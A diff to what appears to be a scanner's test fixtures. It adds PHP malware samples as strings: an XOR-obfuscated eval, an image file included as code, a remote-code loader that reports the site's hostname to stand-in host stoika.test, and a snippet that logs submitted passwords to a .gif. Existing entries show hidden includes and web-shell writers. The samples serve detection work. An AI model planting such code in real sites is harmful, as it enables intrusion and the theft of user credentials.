@@ -50,6 +50,10 @@ const RUNS: Record<string, string> = {
   'a hidden include': '@include "\\x2fhome\\x2fsite\\x2f.cache.ico";',
   'a fetched include': `$t = tempnam('/tmp', 'x'); $c = curl_init('https://stoika.test/c.txt'); file_put_contents($t, curl_exec($c)); include $t;`,
   'a written script': `file_put_contents('cache.php', $_POST['stoika']);`,
+  'a decoder in a loop': `$d = 'qlglggf!hgnnf#qvmkib'; $o = ''; for ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord($d[$i]) ^ 3); } eval($o);`,
+  'a picture that is run': `$f = dirname(__FILE__) . '/images/stoika.ico'; if (is_file($f)) { include $f; }`,
+  'a loader that asks nobody': `eval('?>' . file_get_contents('https://stoika.test/?h=' . $_SERVER['HTTP_HOST']));`,
+  'passwords in a picture': `if (isset($_POST['log'])) { file_put_contents('wp-includes/images/x.gif', $_POST['log'] . ':' . $_POST['pwd'], FILE_APPEND); }`,
   'a fetched script': `$c = curl_init('https://stoika.test/x.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); file_put_contents('cache.php', curl_exec($c));`,
 };
 
